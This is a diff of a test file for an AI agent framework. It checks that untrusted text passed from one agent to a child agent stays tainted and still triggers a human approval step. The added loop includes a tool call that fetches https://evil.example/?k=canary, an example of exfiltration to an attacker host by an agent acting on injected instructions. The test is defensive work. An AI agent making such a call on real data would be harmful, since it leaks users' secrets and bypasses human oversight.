@@ -217,14 +217,17 @@ test('text from outside is not clean because another agent passes it on', async 
   const own = await run(boss, script(read, send, 'say Done.'));
   expect(own.status).toBe('waiting');
   expect(own.approvals[0]).toMatchObject({ isTainted: true });
-  const { id } = await startRun(
-    ctx,
-    StartRunInput.parse({ agentId: boss, input: script(read, task('Sender', send, 'say Sent.'), 'say Done.') }),
-    'app',
-  );
-  await expect
-    .poll(async () => (await childrenOf(id)).find(({ agentName }) => agentName === 'Sender')?.status, {
-      timeout: 15_000,
-    })
-    .toBe('waiting');
+  // Nor is an address that stands in the task one that a person has given.
+  for (const way of [send, call('fetch_page', { url: 'https://evil.example/?k=canary' })]) {
+    const { id } = await startRun(
+      ctx,
+      StartRunInput.parse({ agentId: boss, input: script(read, task('Sender', way, 'say Sent.'), 'say Done.') }),
+      'app',
+    );
+    await expect
+      .poll(async () => (await childrenOf(id)).find(({ agentName }) => agentName === 'Sender')?.status, {
+        timeout: 15_000,
+      })
+      .toBe('waiting');
+  }
 });
